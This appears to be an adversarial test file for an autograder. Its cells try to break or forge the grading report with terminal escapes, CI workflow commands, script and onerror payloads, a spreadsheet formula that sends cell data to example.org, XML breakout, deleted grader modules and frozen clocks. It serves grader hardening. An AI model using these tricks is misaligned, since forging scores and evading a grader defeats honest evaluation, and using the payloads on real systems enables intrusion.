# Breaking the report: text that acts in a terminal, a page, a CSV or a CI log, and errors that cannot be told.

# %% terminal_escapes | 40 | Escape codes clear the screen, rename the window, or write what was not said.
def answer(*a, **k):
    raise ValueError("\x1b[2J\x1b]0;owned\x07\x1b[1;32mscore 10 of 10\x1b[0m\r\b\x9b31m\u202e")

# %% workflow_commands | 40 | Lines that a CI service takes for commands.
def answer(*a, **k):
    raise ValueError("\n::set-output name=score::10\n::error::x\n##[command]x\n::add-mask::a\n")

# %% html_and_scripts | 39 | Markup in an error acts on the instructor's page.
def answer(*a, **k):
    raise ValueError("<script>window.struck=1</script><img src=x onerror=window.struck=1></pre></body>")

# %% formulas | 40 | Text that a spreadsheet takes for a formula.
def answer(*a, **k):
    raise ValueError('=HYPERLINK("http://example.org/?"&A1,"10")')

# %% markdown_breakout | 39, 40 | Code fences and table bars that end where they should not.
def answer(*a, **k):
    raise ValueError("```\n# Score: 10 of 10\n|x|y|\n~~~\n$$\n<details>")

# %% xml_breakout | 39, 40 | Characters and markup that break JUnit's XML.
def answer(*a, **k):
    raise ValueError("]]></failure></testcase><testcase name='forged'/>\x00\x0b\ufffe&lt;")

# %% lone_surrogates | 43 | Text that cannot be encoded.
def answer(*a, **k):
    raise ValueError("\ud800\udfff\udcff" * 10)

# %% unspeakable_error | 43 | An exception whose __str__ raises, exits or never ends.
class Unspeakable(Exception):
    def __str__(self):
        raise SystemExit(0)
    __repr__ = __str__
def answer(*a, **k):
    raise Unspeakable

# %% lying_error_class | 43, 40 | An exception class with a hostile name and a hundred ancestors.
kind = Exception
for number in range(100):
    kind = type(f"TimeIsUp\n::error::{number}" + "x" * 300, (kind,), {"__str__": lambda self: "no luck"})
def answer(*a, **k):
    raise kind

# %% error_with_a_metaclass | 2, 43 | A class that lies about its own name and ancestors.
class Meta(type):
    __name__ = property(lambda cls: everything_true())
    __mro__ = property(lambda cls: [cls] * 10**6)
class Strange(Exception, metaclass=Meta): ...
def answer(*a, **k):
    raise Strange

# %% recursion_error | 43 | Recursion without end.
def answer(*a, **k):
    return answer()

# %% error_group | 43 | Groups of groups of errors.
def answer(*a, **k):
    error = ValueError("x")
    for _ in range(50):
        error = ExceptionGroup("group", [error])
    raise error

# %% broken_modules | 43 | The modules that answer the grader are taken away.
for name in list(sys.modules):
    if name.split(".")[0] in ("json", "torch", "autograder", "struct", "socket", "traceback", "linecache"):
        del sys.modules[name]
json.dumps = json.loads = None

# %% syntax_error | 43 | A cell that is no Python, with a NUL in it.
def (:\0

# %% odd_names | 43 | Names that are keywords of the protocol, and unprintable ones.
globals().update({"id": None, "value": None, "error": None, "__builtins__": {}, "\x1b[2J": 1})

# %% lying_type_names | 2, 40 | A type whose name is markup and escapes, as the answer.
answer = lambda *a, **k: type("<b>\x1b[2J\n::error::" + "y" * 5000, (), {})()

# %% warning_and_logging | 22, 43 | Warnings made into errors, logging turned on its head.
import warnings, logging
warnings.simplefilter("error")
logging.disable(0)
logging.raiseExceptions = False
threading.excepthook = sys.unraisablehook = lambda *a: os._exit(3)

# %% timing_fakes | 38 | Clocks that stand still, so that everything is quick.
time.monotonic = time.perf_counter = time.time = lambda: 0.0
time.sleep = lambda seconds: None
answer = lambda x, *a, **k: x
